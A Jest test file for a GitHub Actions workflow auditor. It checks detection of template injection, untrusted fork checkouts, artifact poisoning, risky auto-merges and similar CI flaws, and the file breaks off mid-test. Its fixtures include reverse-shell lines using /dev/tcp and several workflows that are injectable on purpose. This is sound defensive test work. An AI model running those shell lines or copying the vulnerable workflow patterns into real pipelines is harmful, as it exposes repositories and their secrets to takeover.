// What looks like somebody else's and is not, each with a twin that is. All written for this test, after kinds met in public workflows.

import { auditText } from '../audit-text.js';
import { defaultSettings } from '../config/settings.js';

const workflow = '.github/workflows/test.yml';

async function found(id: string, text: string): Promise<readonly string[]> {
  const findings = await auditText(text, workflow, defaultSettings, new Date('2026-11-29'));
  return findings.filter(({ ruleId }) => ruleId === id).map(({ severity, message }) => `${severity}: ${message}`);
}

const job = (on: string, steps: string, more = ''): string =>
  `on: ${on}\njobs:\n  a:\n    runs-on: ubuntu-24.04\n${more}    steps:\n${steps}`;

const checkout = (more = ''): string =>
  `      - uses: actions/checkout@v4.2.2\n        with:\n          ref: \${{ github.event.pull_request.head.sha }}\n${more}`;

describe('ids of what git lists', () => {
  const tag = (script: string): string =>
    job(
      'pull_request_target',
      `${checkout()}      - id: tag\n        run: echo tag="$(${script})" >> $GITHUB_OUTPUT\n      - run: echo \${{ steps.tag.outputs.tag }}\n`,
    );
  test.each([
    ["git ls-tree --full-tree HEAD -- ./images | awk '{ print $3 }'", 0],
    ["git ls-tree HEAD | awk '{print $1}'", 0],
    ["git ls-tree HEAD | awk '{print $4}'", 1],
    ["git ls-tree HEAD | awk '{print $0}'", 1],
    ["git ls-tree --name-only HEAD | awk '{print $1}'", 1],
    ["git ls-tree --format='%(path)' HEAD | awk '{print $1}'", 1],
    ["git diff HEAD^ | awk '{print $3}'", 1],
    ["git ls-tree HEAD | cat | awk '{print $4}'", 1],
  ])('%s', async (script, count) => {
    expect(await found('template-injection', tag(script))).toHaveLength(count);
  });
});

describe('routes of GitHub’s API', () => {
  const asks = (route: string): string =>
    job(
      'workflow_dispatch',
      `      - id: get\n        uses: octokit/request-action@v2\n        with:\n          route: ${route}\n      - run: echo \${{ fromJSON(steps.get.outputs.data).title }}\n`,
    );
  test.each([
    ['GET /repos/{owner}/{repo}/releases/latest', 0],
    ['GET /repos/{owner}/{repo}/tags', 0],
    ['GET /repos/{owner}/{repo}/issues/1', 1],
    ['GET /repos/{owner}/{repo}/pulls?head=/releases/', 1],
    ['GET ${{ inputs.route }}', 1],
  ])('%s', async (route, count) => {
    expect(await found('template-injection', asks(route))).toHaveLength(count);
  });
});

describe('folders', () => {
  const beside = (run: string): string =>
    job(
      'pull_request_target',
      `      - uses: actions/checkout@v4.2.2\n        with:\n          path: upstream-charts\n${checkout('          path: charts\n')}      - run: |\n${run
        .split('\n')
        .map((line) => `          ${line}\n`)
        .join('')}`,
    );
  test.each([
    ['cd "$GITHUB_WORKSPACE/upstream-charts" || exit 1\nnpx tool\ncd "$GITHUB_WORKSPACE/charts"', 0],
    ['cd "${GITHUB_WORKSPACE}"/upstream-charts\nmake', 0],
    ['cd "$GITHUB_WORKSPACE/charts" || exit 1\nnpx tool', 1],
    ['cd "${GITHUB_WORKSPACE}"/charts\nmake', 1],
    ['cd charts && make', 1],
    ['make -C ./charts', 1],
    ['make -C upstream-charts', 0],
  ])('%s', async (run, count) => {
    expect(await found('untrusted-checkout-execution', beside(run))).toHaveLength(count);
  });

  test.each([
    ['make -C ../base/api', 0],
    ['bash ../base/build.sh', 0],
    ['npm --prefix=../base test', 0],
    ['make -C api', 1],
    ['cd api && make -C ../api', 1],
    ['make', 1],
  ])('at the root: %s', async (run, count) => {
    const text = job('pull_request_target', `${checkout()}      - run: ${run}\n`);
    expect(await found('untrusted-checkout-execution', text)).toHaveLength(count);
  });
});

describe('files of mktemp', () => {
  const given = (script: string): string =>
    job(
      '\n  workflow_run:\n    workflows: [test]\n    types: [completed]',
      `      - uses: actions/download-artifact@v4\n        with:\n          run-id: \${{ github.event.workflow_run.id }}\n          github-token: \${{ github.token }}\n      - id: a\n        run: |\n${script
        .split('\n')
        .map((line) => `          ${line}\n`)
        .join('')}      - run: echo \${{ steps.a.outputs.sha }}\n`,
    );
  const checked = 'SHA=$(jq -r .sha run.json)\nif ! [[ "$SHA" =~ ^[0-9a-f]{40}$ ]]; then SHA=""; fi\necho "sha=$SHA" >> "$OUT"';
  test.each([
    [`OUT=$(mktemp)\n${checked}\ncat "$OUT" >> "$GITHUB_OUTPUT"`, 0],
    [`OUT="$(mktemp -t out.XXXX)"\n${checked}\ncat < "$OUT" >> "$GITHUB_OUTPUT"`, 0],
    ['OUT=$(mktemp)\necho "sha=$(cat sha.txt)" >> "$OUT"\ncat "$OUT" >> "$GITHUB_OUTPUT"', 1],
    [`OUT=$(mktemp)\n${checked}\ncp sha.txt "$OUT"\ncat "$OUT" >> "$GITHUB_OUTPUT"`, 1],
    ['OUT=$(mktemp -d)\ncat "$OUT/x" sha.txt >> "$GITHUB_OUTPUT"', 1],
    ['OUT=run.txt\ncat "$OUT" >> "$GITHUB_OUTPUT"', 1],
    ['OUT=$(mktemp)\nOUT=run.txt\ncat "$OUT" >> "$GITHUB_OUTPUT"', 1],
    ['OUT=$(mktemp)\ncat "$OUT" sha.txt >> "$GITHUB_OUTPUT"', 1],
  ])('%s', async (script, count) => {
    expect(await found('template-injection', given(script))).toHaveLength(count);
  });
});

describe('an author that an action asks for', () => {
  const merges = (more = ''): string =>
    job(
      'pull_request_target',
      `      - uses: dependabot/fetch-metadata@v2\n${more}      - run: gh pr merge --auto\n`,
      "    if: github.actor == 'dependabot[bot]'\n",
    );
  test('lets nobody else’s pull request past', async () => {
    expect(await found('confused-deputy-merge', merges())).toEqual([]);
  });
  test.each(['        with:\n          skip-verification: true\n', '        continue-on-error: true\n', '        if: inputs.check\n'])(
    'unless it is told not to ask, or may fail: %s',
    async (more) => {
      expect(await found('confused-deputy-merge', merges(more))).toHaveLength(1);
    },
  );
});

describe('a job for a bot, in which an action asks who wrote the pull request', () => {
  const metadata = '      - uses: dependabot/fetch-metadata@v2\n';
  const merge = '      - run: gh pr merge --auto\n';
  const whole = "    if: github.actor == 'dependabot[bot]'\n";
  test.each([
    ['first', whole, metadata + merge, 'medium'],
    ['behind an action', whole, `      - uses: step-security/harden-runner@v2\n${metadata}${merge}`, 'medium'],
    ['and nobody does', whole, merge, 'high'],
    ['behind a script', whole, `      - run: make\n${metadata}${merge}`, 'high'],
    ['behind a checkout', whole, `      - uses: actions/checkout@v5\n${metadata}${merge}`, 'high'],
    ['before a step that runs in any case', whole, `${metadata}      - if: always()\n        run: gh pr merge --auto\n`, 'high'],
    [
      'before a step that asks and runs in any case',
      '',
      `${metadata}      - if: always() && github.actor == 'dependabot[bot]'\n        run: gh pr merge --auto\n`,
      'high',
    ],
    ['and need not pass', whole, `${metadata}        continue-on-error: true\n${merge}`, 'high'],
    [
      'before the step that asks',
      '',
      `${metadata}      - if: github.actor == 'dependabot[bot]'\n        run: gh pr merge --auto\n`,
      'medium',
    ],
    [
      'behind the step that asks',
      '',
      `      - if: github.actor == 'dependabot[bot]'\n        run: gh pr merge --auto\n${metadata}`,
      'high',
    ],
  ])('%s', async (_, condition, text, severity) => {
    const told = await found('bot-conditions', job('pull_request_target', text, condition));
    expect(told.map((one) => one.split(':')[0])).toEqual([severity]);
  });
});

describe('images of an outsider’s files', () => {
  const builds = (persisted: boolean, more = ''): string =>
    job(
      'pull_request_target',
      `${checkout(persisted ? '' : '          persist-credentials: false\n')}      - uses: docker/login-action@v3\n        with:\n          password: \${{ secrets.PASSWORD }}\n      - uses: docker/build-push-action@v6\n        with:\n          context: .\n${more}`,
    );
  test('are built in containers without the token', async () => {
    const [first, ...rest] = await found('untrusted-checkout-execution', builds(false));
    expect(first).toMatch(/^high: .* runs commands in the containers of this build/);
    expect(rest).toEqual([]);
  });
  test.each([
    ['a token beside the files', builds(true)],
    ['a secret handed in', builds(false, '          build-args: KEY=${{ secrets.KEY }}\n')],
  ])('not so with %s', async (_, text) => {
    expect((await found('untrusted-checkout-execution', text))[0]).toMatch(/^critical: .* runs commands in this job/);
  });
});

describe('what a pattern lets through', () => {
  const matched = (regex: string, run: string): string =>
    job(
      'issues',
      `      - id: m\n        uses: actions-ecosystem/action-regex-match@v2\n        with:\n          text: \${{ github.event.issue.body }}\n          regex: '${regex}'\n      - env:\n          M: \${{ steps.m.outputs.group1 }}\n        run: ${run}\n`,
    );
  test.each([
    [String.raw`^/deploy (\w+)$`, 0],
    [String.raw`^/deploy (\S+)$`, 1],
    ['^/deploy (.*)$', 1],
    ['${{ vars.PATTERN }}', 1],
  ])('%s', async (regex, count) => {
    expect(await found('template-injection', matched(regex, 'echo ${{ steps.m.outputs.group1 }}'))).toHaveLength(count);
    expect(await found('shell-eval-injection', matched(regex, 'eval "$M"'))).toHaveLength(count);
  });
  test('may be an option all the same', async () => {
    expect(await found('argument-injection', matched(String.raw`([\w-]+)`, 'git fetch $M'))).toHaveLength(1);
  });
  test('beside the whole text it is no help', async () => {
    const text = matched(String.raw`(\w+)`, 'echo "${{ steps.m.outputs.group1 || github.event.issue.body }}"');
    expect(await found('template-injection', text)).toHaveLength(1);
  });
});

describe('who sets a workflow off', () => {
  const runs = (types: string, secret = true): string =>
    job(
      `\n  pull_request_target:\n    types: [${types}]`,
      `${checkout()}      - run: make\n${secret ? '        env:\n          KEY: ${{ secrets.DEPLOY_KEY }}\n' : ''}`,
    );
  test.each(['labeled', 'unlabeled', 'assigned', 'milestoned', 'review_requested', 'labeled, review_requested'])(
    'somebody with rights: %s',
    async (types) => {
      const [first] = await found('dangerous-triggers', runs(types));
      expect(first).toMatch(/^medium: .*once somebody with rights acts on what an outsider opened/);
    },
  );
  test.each(['opened', 'labeled, synchronize', 'edited'])('anybody: %s', async (types) => {
    const [first] = await found('dangerous-triggers', runs(types));
    expect(first).toMatch(/^high: .*whoever sets it off/);
  });
});

describe('names of files on lines of their own', () => {
  const given = (script: string, target = 'GITHUB_OUTPUT'): string =>
    job(
      'pull_request',
      `      - uses: actions/checkout@v4.2.2\n      - run: |\n${script
        .split('\n')
        .map((line) => `          ${line}\n`)
        .join('')}`,
    ).replaceAll('OUT', target);
  const names = 'git diff --name-only "origin/$BASE"';
  test.each([
    [`echo "files=$(${names})" >> "$OUT"`, 1],
    [`FILES=$(${names})\necho "files=$FILES" >> "$OUT"`, 1],
    [`FILES=$(${names} | grep -v docs | sort -u)\necho "files=\${FILES}" >> "$OUT"`, 1],
    [`echo "files=$(${names} | tr ' ' '\\n')" >> "$OUT"`, 1],
    [`echo "files=$(${names} | xargs -n1 dirname)" >> "$OUT"`, 1],
    [`echo "files=$(${names} | xargs -n1 echo)" >> "$OUT"`, 1],
    [`echo "files=$(${names} | paste -d,)" >> "$OUT"`, 1],
    [`echo "files=$(${names} | head -n 10)" >> "$OUT"`, 1],
    [`echo "files=$(${names} | jq -Rr .)" >> "$OUT"`, 1],
    [`for f in "$(${names})"; do echo "file=$f" >> "$OUT"; done`, 1],
    [`echo "files=$(gh pr diff 5 --name-only)" >> "$OUT"`, 1],
    [`echo "files=$(gh api repos/a/b/pulls/5/files --jq '.[].filename')" >> "$OUT"`, 1],
    [`echo files=$(${names}) >> "$OUT"`, 0],
    [`FILES=$(${names})\necho files=$FILES >> "$OUT"`, 0],
    [`FILES=$(${names} | tr '\\n' ' ')\necho "files=$FILES" >> "$OUT"`, 0],
    [`FILES=$(${names})\necho "files=$(echo "$FILES" | tr '\\n' ',')" >> "$OUT"`, 0],
    [`FILES=$(${names})\necho "files=$(echo $FILES)" >> "$OUT"`, 0],
    [`echo "files=$(${names} | xargs)" >> "$OUT"`, 0],
    [`echo "files=$(${names} | xargs -r)" >> "$OUT"`, 0],
    [`echo "files=$(${names} | xargs -n1)" >> "$OUT"`, 1],
    [`echo "files=$(${names} | paste -sd,)" >> "$OUT"`, 0],
    [`echo "files=$(${names} | jq -Rs .)" >> "$OUT"`, 0],
    [`echo "files=$(${names} | jq -R . | jq -sc .)" >> "$OUT"`, 0],
    [`echo "files=$(${names} | head -1)" >> "$OUT"`, 0],
    [`echo "files=$(${names} | sed ':a;N;$!ba;s/\\n/ /g')" >> "$OUT"`, 0],
    [`echo "files=$(${names} | awk -v ORS=' ' 1)" >> "$OUT"`, 0],
    [`for f in $(${names}); do echo "file=$f" >> "$OUT"; done`, 0],
    [`${names} | while read f; do echo "file=$f" >> "$OUT"; done`, 0],
    [`FILES=($(${names}))\necho "file=\${FILES[0]}" >> "$OUT"`, 0],
  ])('%s', async (script, count) => {
    expect(await found('output-clobbering', given(script))).toHaveLength(count);
    expect(await found('github-env', given(script, 'GITHUB_ENV'))).toHaveLength(count);
  });
  test.each([
    ['', 0],
    ['        with:\n          separator: "\\n"\n', 1],
    ['        with:\n          separator: ","\n', 0],
  ])('of an action told %j', async (more, count) => {
    const text = job(
      'pull_request',
      `      - id: c\n        uses: tj-actions/changed-files@v45\n${more}      - env:\n          FILES: \${{ steps.c.outputs.all_changed_files }}\n        run: echo "files=$FILES" >> "$GITHUB_ENV"\n`,
    );
    expect(await found('github-env', text)).toHaveLength(count);
  });
});

describe('a race for a checkout', () => {
  const race = (on: string, condition: string, input: string, behind: string): string =>
    job(on, `      - uses: actions/checkout@v4.2.2\n        with:\n${input}${behind}`, `    if: ${condition}\n`);
  const member = "github.event.comment.author_association == 'MEMBER'";
  const pull = '          ref: refs/pull/${{ github.event.issue.number }}/head\n';

  test.each([
    ['runs a script of it', '      - run: make\n', 'high'],
    ['an action of somebody else’s may run it', '      - uses: a/b@v1\n', 'high'],
    [
      'an action that is told nothing of its folder',
      '          path: theirs\n      - uses: a/b@v1\n        with: { token: x }\n',
      'medium',
    ],
    ['an action that is told its folder', '          path: theirs\n      - uses: a/b@v1\n        with: { folder: ./theirs }\n', 'high'],
    ['an action that may be told it', '          path: theirs\n      - uses: a/b@v1\n        with: { folder: "${{ env.AT }}" }\n', 'high'],
    ['an image may run it', '      - uses: docker://a/b\n', 'high'],
    ['a script of another language may run it', '      - shell: python\n        run: import theirs\n', 'high'],
    ['only an action of GitHub’s behind it', '      - uses: actions/setup-node@v4\n', 'medium'],
    ['only words behind it', '      - run: git push origin HEAD:theirs\n', 'medium'],
    ['nothing behind it', '', 'medium'],
  ])('%s', async (_, behind, severity) => {
    const [told] = await found('approval-race', race('issue_comment', member, pull, behind));
    expect(told).toMatch(new RegExp(`^${severity}: `));
  });

  test('what runs before the checkout runs none of it', async () => {
    const text = race('issue_comment', member, pull, '').replace('    steps:\n', '    steps:\n      - run: make\n');
    expect(await found('approval-race', text)).toEqual([expect.stringMatching(/^medium: /)]);
  });

  const labels = "contains(github.event.pull_request.labels.*.name, 'ok')";
  const fork = '          repository: ${{ github.event.pull_request.head.repo.full_name }}\n';
  test.each([
    ['the commit of the event, from whichever repository', `${fork}          ref: \${{ github.event.pull_request.head.sha }}\n`, 0],
    ['a branch of theirs', `${fork}          ref: \${{ github.event.pull_request.head.ref }}\n`, 1],
    ['a text around the commit', `${fork}          ref: x\${{ github.event.pull_request.head.sha }}\n`, 1],
    ['whatever their first branch holds', fork, 1],
  ])('by a label: %s', async (_, input, count) => {
    const text = race('{ pull_request_target: { types: [labeled] } }', labels, input, '      - run: make\n');
    expect(await found('approval-race', text)).toHaveLength(count);
  });
});

describe('artifacts that are found by an expression', () => {
  const takes = (input: string, run: string): string =>
    job(
      "{ workflow_run: { workflows: ['x'] } }\npermissions: { contents: write }",
      `      - uses: dawidd6/action-download-artifact@v6\n        with:\n          run_id: \${{ github.event.workflow_run.id }}\n${input}      - run: ${run}\n`,
    );
  const byName = '          name: "(diff-)?pages.*"\n          name_is_regexp: true\n';
  test.each([
    ['a program that reads settings beside the folder', byName, 'uvx show upload pages', 0],
    ['a script in the folder', byName, './pages/run.sh', 1],
    ['a script in the folder below another', `${byName}          path: out\n`, './out/pages/run.sh', 1],
    ['all in one folder', `${byName}          merge_multiple: true\n`, 'uvx show upload pages', 1],
    ['one artifact by its name', '          name: pages\n', 'uvx show upload pages', 1],
    ['any name at all', '          name: ".*"\n          name_is_regexp: true\n', 'uvx show upload pages', 1],
    ['one of two names', '          name: "pages|other"\n          name_is_regexp: true\n', 'uvx show upload pages', 1],
  ])('%s', async (_, input, run, count) => {
    expect(await found('artifact-poisoning', takes(input, run))).toHaveLength(count);
  });
});

describe('an output that others’ lines could set', () => {
  const writes = (run: string, reads: string, id = 'id: number'): string =>
    job(
      "{ workflow_run: { workflows: ['x'] } }\npermissions: { contents: write }",
      `      - uses: actions/download-artifact@v4\n        with: { name: n, run-id: 1, path: n }\n      - ${id}\n        run: ${run}\n      - env: { A: "${reads}" }\n        run: echo "$A"\n`,
    );
  const plain = 'echo "pr=$(cat n/pr)" >> "$GITHUB_OUTPUT"';
  const own = '${{ steps.number.outputs.pr }}';
  test.each([
    ['no other is read', plain, own, 'low'],
    ['none is read', plain, '', 'low'],
    ['another is read', plain, '${{ steps.number.outputs.ok }}', 'high'],
    ['one of each', plain, `${own} \${{ steps.NUMBER.outputs.ok }}`, 'high'],
    ['all are read', plain, '${{ toJSON(steps.number.outputs) }}', 'high'],
    ['all of all steps are read', plain, '${{ toJSON(steps) }}', 'high'],
    ['a step is found by an expression', plain, '${{ steps[env.B].outputs.ok }}', 'high'],
    ['a test that may look at the first line', `grep -q '^[0-9]' n/pr && ${plain}`, own, 'medium'],
    ['one line of a file', 'echo "pr=$(tail -n 1 n/pr)" >> "$GITHUB_OUTPUT"', '${{ steps.number.outputs.ok }}', 'medium'],
    ['words of a file in one line', 'A=$(cat n/pr); echo "pr=$(echo $A)" >> "$GITHUB_OUTPUT"', '${{ steps.number.outputs.ok }}', 'medium'],
    ['the output of another step', plain, '${{ steps.other.outputs.ok }}', 'low'],
  ])('%s', async (_, run, reads, severity) => {
    const [told] = await found('output-clobbering', writes(run, reads));
    expect(told).toMatch(new RegExp(`^${severity}: `));
  });

  test('a step without an id gives out nothing', async () => {
    expect(await found('output-clobbering', writes(plain, '', 'name: n'))).toEqual([expect.stringMatching(/^low: /)]);
  });
});

describe('merges that ask who acted last', () => {
  const merge = (condition: string): string => job('pull_request_target', '      - run: gh pr merge --auto\n', `    if: ${condition}\n`);
  test('an approval, or a merge that waits for nothing, is worse than one that waits', async () => {
    const author = 'github.event.pull_request.draft == false';
    const severities = async (script: string): Promise<readonly string[]> =>
      (await found('confused-deputy-merge', merge(author).replace('gh pr merge --auto', script))).map((one) => one.split(':')[0] ?? '');
    expect(await severities('gh pr merge --auto')).toEqual(['medium']);
    expect(await severities('gh pr merge')).toEqual(['high']);
    expect(await severities('gh pr merge --auto && gh pr review --approve')).toEqual(['high']);
  });
  test.each([
    ["github.actor == 'octocat'", 'medium'],
    ['contains(fromJSON(\'["octocat", "hubot"]\'), github.actor)', 'medium'],
    ['contains(fromJSON(\'["octocat", "a[bot]"]\'), github.actor)', 'high'],
    ["github.actor == 'dependabot[bot]'", 'high'],
    ["github.actor != 'octocat'", 'medium'],
  ])('%s', async (condition, severity) => {
    const [told] = await found('confused-deputy-merge', merge(condition));
    expect(told).toMatch(new RegExp(`^${severity}: `));
  });
});

describe('how many jobs have a right', () => {
  const jobs = (...permissions: readonly string[]): string =>
    `on: push\npermissions: { contents: write }\njobs:\n${permissions
      .map((own, i) => `  j${i}:\n${own}    runs-on: ubuntu-24.04\n    steps:\n      - run: make\n`)
      .join('')}`;
  const reads = '    permissions: { contents: read }\n';
  const writesToo = '    permissions: { contents: write }\n';
  test.each([
    [['', ''], /^high: `contents: write` is given to all 2 jobs: the token of each/],
    [['', '', reads], /^high: `contents: write` is given to 2 of 3 jobs: the token of each/],
    [['', '', writesToo], /^high: `contents: write` is given to all 3 jobs/],
    [['', reads], /^low: `contents: write` is given to the whole workflow, and one of 2 jobs has it: its token/],
    [[reads, reads], /^low: `contents: write` is given to the whole workflow, and no job has it/],
  ])('%j', async (permissions, message) => {
    expect(await found('excessive-permissions', jobs(...permissions))).toContainEqual(expect.stringMatching(message));
  });
});

test.each([
  ['git merge-tree --write-tree HEAD FETCH_HEAD', 0],
  ['git merge-base HEAD FETCH_HEAD', 0],
  ['git merge FETCH_HEAD', 1],
  ['git -c a=b merge FETCH_HEAD', 1],
])('a pull request that is fetched, and %s behind it', async (command, count) => {
  const fetched = `      - run: |\n          git fetch origin "pull/\${{ github.event.number }}/head"\n          ${command}\n      - run: make\n`;
  expect(await found('untrusted-checkout-execution', job('pull_request_target', fetched))).toHaveLength(count);
});

test.each([
  ['(exec 3<>/dev/tcp/127.0.0.1/$port) 2>/dev/null', 0],
  ['(exec 3<>/dev/tcp/localhost/80) 2>/dev/null', 0],
  ['bash -c "exec 3<>/dev/tcp/198.51.100.7/4444"', 1],
  ['(exec 3<>/dev/tcp/localhost.test/80) 2>/dev/null', 1],
  ['bash -i >& /dev/tcp/127.0.0.1/4444 0>&1', 1],
])('a shell that is connected: %s', async (command, count) => {
  expect(await found('reverse-shell', job('push', `      - run: '${command}'\n`))).toHaveLength(count);
});

describe('releases of actions/checkout that refuse a fork’s code', () => {
  const event = '${{ github.event.pull_request.head.sha }}';
  const taken = (on: string, use: string, more: string): string =>
    job(
      on,
      `      - uses: actions/checkout@${use}\n        with:\n${more}      - run: make test\n`,
      '    env:\n      TOKEN: ${{ secrets.TOKEN }}\n',
    );
  const ref = (text: string): string => `          ref: ${text}\n`;
  const before = 'workflow_run:\n    workflows: [ci]';
  const old = '34e114876b0b11c390a56381ad16ebd13914f8d5';
  test.each([
    ['of version 7', 'pull_request_target', 'v7', ref(event), 0],
    ['of version 7, where it is let through', 'pull_request_target', 'v7', `${ref(event)}          allow-unsafe-pr-checkout: true\n`, 1],
    [
      'where it is let through by what a run knows',
      'pull_request_target',
      'v7',
      `${ref(event)}          allow-unsafe-pr-checkout: \${{ vars.X }}\n`,
      1,
    ],
    ['where it is said to be refused', 'pull_request_target', 'v7', `${ref(event)}          allow-unsafe-pr-checkout: false\n`, 0],
    ['by the commit', 'pull_request_target', 'd23441a48e516b6c34aea4fa41551a30e30af803', ref(event), 0],
    ['by the comment beside a commit alone', 'pull_request_target', `${old} # v6.1.0`, ref(event), 1],
    ['by a commit whose comment says less', 'pull_request_target', 'D23441a48e516b6c34aea4fa41551a30e30af803 # v6.0.0', ref(event), 0],
    ['of a commit before, by its comment', 'pull_request_target', `${old} # v6.0.3`, ref(event), 1],
    ['of a commit whose comment leaves it open', 'pull_request_target', `${old} # v6`, ref(event), 1],
    ['of a release before', 'pull_request_target', 'v4.3.1', ref(event), 1],
    ['of a backport', 'pull_request_target', 'v4.4.0', ref(event), 0],
    ['by the number', 'pull_request_target', 'v7', ref('refs/pull/${{ github.event.number }}/merge'), 0],
    ['by a number that is not held against the pattern', 'pull_request_target', 'v7', ref('pull/${{ github.event.number }}/merge'), 1],
    [
      'after the repository’s',
      'pull_request_target',
      'v7',
      '          repository: ${{ github.event.pull_request.head.repo.full_name }}\n          ref: ${{ github.head_ref }}\n',
      0,
    ],
    ['after a run', before, 'v7', ref('${{ github.event.workflow_run.head_sha }}'), 0],
    ['after a run, of a release before', before, 'v6.0.2', ref('${{ github.event.workflow_run.head_sha }}'), 1],
    ['after a comment, which it does not look at', 'issue_comment', 'v7', ref('refs/pull/${{ github.event.issue.number }}/merge'), 1],
  ])('%s', async (_, on, use, more, count) => {
    const text = taken(on.includes('\n') ? `\n  ${on}` : on, use, more);
    expect(await found('untrusted-checkout-execution', text)).toHaveLength(count);
  });

  test('a comment behind a commit calms nobody, and is said', async () => {
    const told = await found('untrusted-checkout-execution', taken('pull_request_target', `${old} # v7.0.1`, ref(event)));
    expect(told).toEqual([expect.stringMatching(/^medium: .*, unless its commit is of the release that the comment behind it names\. /)]);
  });
});

describe('the first of several that says something', () => {
  const asked = (who: string): string =>
    `on: [issue_comment, pull_request_review]\njobs:\n  a:\n    if: contains(fromJSON('["OWNER", "MEMBER"]'), ${who})\n    runs-on: ubuntu-24.04\n    steps:\n      - run: echo "\${{ github.event.comment.body }}"\n`;
  test.each([
    ['github.event.comment.author_association || github.event.review.author_association', 0],
    ['github.event.review.author_association || github.event.comment.author_association', 0],
    ['github.event.review.author_association', 0],
    ['github.event.comment.body || github.event.comment.author_association', 1],
    ['vars.X || github.event.comment.author_association', 1],
  ])('%s', async (who, count) => {
    expect(await found('template-injection', asked(who))).toHaveLength(count);
  });
});

test('wrangler gets its command without a shell, and what runs before it with one', async () => {
  const given = (input: string): string =>
    job(
      'issues',
      `      - uses: cloudflare/wrangler-action@v4\n        with:\n          ${input}: deploy \${{ github.event.issue.title }}\n`,
    );
  expect(await found('template-injection', given('command'))).toHaveLength(0);
  expect(await found('template-injection', given('preCommands'))).toHaveLength(1);
});

test('what is merged by a label is no outsider’s to have merged', async () => {
  const merge = (labels: string): string =>
    job('pull_request_target', `      - uses: pascalgn/automerge-action@v0.16.4\n        env:\n          MERGE_LABELS: "${labels}"\n`);
  const said = async (labels: string): Promise<string | undefined> =>
    (await found('confused-deputy-merge', merge(labels)))[0]?.split(':')[0];
  expect([await said('!wip,ready'), await said(''), await said('!wip'), await said('${{ vars.LABELS }}')]).toEqual([
    'medium',
    'medium',
    'high',
    'high',
  ]);
});

describe('answers of GitHub’s graph', () => {
  const asks = (query: string, taken = '.data.x.id'): string =>
    job(
      'issues',
      `      - id: get\n        run: |\n          gh api graphql -f query='${query}' > answer.json\n          v=$(jq -r '${taken}' answer.json)\n          echo "v=$(gh api graphql -f query='${query}')" >> $GITHUB_OUTPUT\n      - run: echo \${{ steps.get.outputs.v }}\n`,
    );
  test.each([
    ['query { repository(name: "a") { issue(number: 1) { id state projectItems(first: 9) { nodes { id } } } } }', 0],
    ['query { repository(name: "a") { issue(number: 1) { labels(first: 9) { nodes { name } } } } }', 0],
    ['query { repository(name: "a") { issue(number: 1) { id title } } }', 1],
    ['query { repository(name: "a") { pullRequest(number: 1) { headRef { name } } } }', 1],
    ['query { repository(name: "a") { issue(number: 1) { author { name } } } }', 1],
  ])('%s', async (query, count) => {
    expect(await found('template-injection', asks(query))).toHaveLength(count);
  });

  test.each([
    ['id state', 0],
    ['id body', 1],
  ])('a query in a variable asks for %s', async (fields, count) => {
    const script = `          Q="query { repository { issue(number: 1) { ${fields} } } }"\n          R=$(gh api graphql -f query="$Q")\n          echo "v=$R" >> $GITHUB_OUTPUT\n`;
    const text = job('issues', `      - id: get\n        run: |\n${script}      - run: echo \${{ steps.get.outputs.v }}\n`);
    expect(await found('template-injection', text)).toHaveLength(count);
    expect(await found('template-injection', text.replace('query="$Q"', 'query=@q.graphql'))).toHaveLength(1);
  });
});

test.each([
  ['--json mergeable --template "{{.mergeable}}"', 0],
  ['--json title --template "{{.title}}"', 1],
  ['--json title,id --template "{{range .}}{{.id}}{{end}}"', 1],
])('a template of gh: %s', async (options, count) => {
  const text = job(
    'pull_request_target',
    `      - id: get\n        run: echo "v=$(gh pr view 1 ${options})" >> $GITHUB_OUTPUT\n      - run: echo \${{ steps.get.outputs.v }}\n`,
  );
  expect(await found('template-injection', text)).toHaveLength(count);
});

test.each([
  ['listLabelsForRepo', 0],
  ['listMilestones', 0],
  ['listComments', 1],
])('what github.rest.issues.%s answers is somebody else’s or not', async (method, count) => {
  const text = job(
    'issues',
    `      - id: get\n        uses: actions/github-script@v7\n        with:\n          script: |\n            const { data } = await github.rest.issues.${method}({});\n            core.setOutput('v', data.map((one) => one.body).join());\n      - run: echo \${{ steps.get.outputs.v }}\n`,
  );
  expect(await found('template-injection', text)).toHaveLength(count);
});

describe('a checkout empties its folder', () => {
  const taken = (download: string, with_: string): string =>
    job(
      'workflow_run',
      `      - uses: actions/download-artifact@v4\n        with:\n          run-id: \${{ github.event.workflow_run.id }}\n${download}      - uses: actions/checkout@v4.2.2\n${with_}      - run: ./made/run.sh\n      - run: make\n`,
    );
  test.each([
    ['', '', 0],
    ['', '        with:\n          clean: false\n', 2],
    ['', '        with:\n          path: other\n', 2],
    ['', '        if: inputs.x\n', 2],
    ['          path: made\n', '', 0],
    ['          path: made\n', '        with:\n          path: made\n', 0],
    ['          path: made\n', '        with:\n          path: mad\n', 1],
  ])('%j, then %j', async (download, with_, count) => {
    expect(await found('artifact-poisoning', taken(download, with_))).toHaveLength(count);
  });
});

test.each([
  ["echo 'files<<EOF' >> $GITHUB_OUTPUT", 'low'],
  ["echo 'other=1' >> $GITHUB_OUTPUT\n          echo 'files<<EOF' >> $GITHUB_OUTPUT", 'medium'],
])('file names between marks, where %s', async (before, severity) => {
  const text = job(
    'pull_request_target',
    `      - id: get\n        run: |\n          F=$(gh pr diff 1 --name-only | grep '^src/' || true)\n          ${before}\n          echo "$F" >> $GITHUB_OUTPUT\n          echo EOF >> $GITHUB_OUTPUT\n      - env: { F: "\${{ steps.get.outputs.files }}" }\n        run: make\n`,
    '    permissions: { pull-requests: write }\n',
  );
  expect((await found('output-clobbering', text)).map((one) => one.split(':')[0])).toEqual([severity]);
});

describe('where a pull request comes from, asked by a step before', () => {
  const guarded = (condition: string, test_: string): string =>
    job(
      'issue_comment',
      `      - id: get\n        run: |\n          INFO=$(curl https://api.github.com/repos/a/b/pulls/\${{ github.event.issue.number }})\n          FROM=$(echo "$INFO" | jq -r .head.repo.full_name)\n          REF=$(echo "$INFO" | jq -r .head.sha)\n          ${test_}\n          echo "ref=$REF" >> $GITHUB_OUTPUT\n      - uses: actions/checkout@v4.2.2\n        if: ${condition}\n        with:\n          ref: \${{ steps.get.outputs.ref }}\n      - run: make\n`,
    );
  test.each([
    ["steps.get.outputs.ref != ''", 'if [[ $FROM != $GITHUB_REPOSITORY ]]; then exit 0; fi', 0],
    ["steps.get.outputs.ref == ''", 'if [[ $FROM != $GITHUB_REPOSITORY ]]; then exit 0; fi', 1],
    ['always()', 'echo "$FROM"', 1],
  ])('%s after %s', async (condition, test_, count) => {
    expect(await found('untrusted-checkout-execution', guarded(condition, test_))).toHaveLength(count);
  });
});

test.each([
  ["github.event.workflow_run.event == 'push'", 0],
  // The workflow before is the fork's: it may run on pull_request_review.
  ["github.event.workflow_run.event != 'pull_request'", 1],
